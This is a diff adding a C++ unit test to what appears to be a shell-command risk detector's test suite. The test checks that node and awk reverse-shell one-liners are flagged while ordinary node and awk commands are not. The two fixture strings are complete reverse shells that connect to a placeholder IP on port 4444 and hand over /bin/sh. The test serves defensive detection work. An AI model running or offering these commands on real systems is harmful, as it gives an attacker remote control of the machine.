@@ -618,5 +618,23 @@ TEST(CoverageClasses, MoreBanditClasses) {
   for (const auto& c : cases) check(c);
 }
 
+// Reverse shells in other languages' one-liners: node's net module and awk's
+// /inet/tcp special file (awk's program is its first operand).
+TEST(CoverageClasses, OneLinerReverseShellsInOtherLanguages) {
+  const Case cases[] = {
+      {"node net + child_process", B,
+       "node -e 'var n=require(\"net\"),c=require(\"child_process\"),s=n.connect(4444,\"198.51.100.7\",function(){"
+       "var sh=c.spawn(\"/bin/sh\",[]);s.pipe(sh.stdin);sh.stdout.pipe(s);});'\n",
+       "REVERSE-SHELL", SH},
+      {"awk /inet/tcp", B,
+       "awk 'BEGIN {s = \"/inet/tcp/0/198.51.100.7/4444\"; while(42) { s |& getline c; while ((c |& getline) > 0) print $0 |& s; close(c) }}' /dev/null\n",
+       "REVERSE-SHELL", SH},
+      // Neighbours: awk and node doing ordinary work.
+      {"awk summing a column", L, "awk '{ s += $2 } END { print s }' data.txt\n", nullptr, SH},
+      {"node printing a version", L, "node -e 'console.log(process.version)'\n", nullptr, SH},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
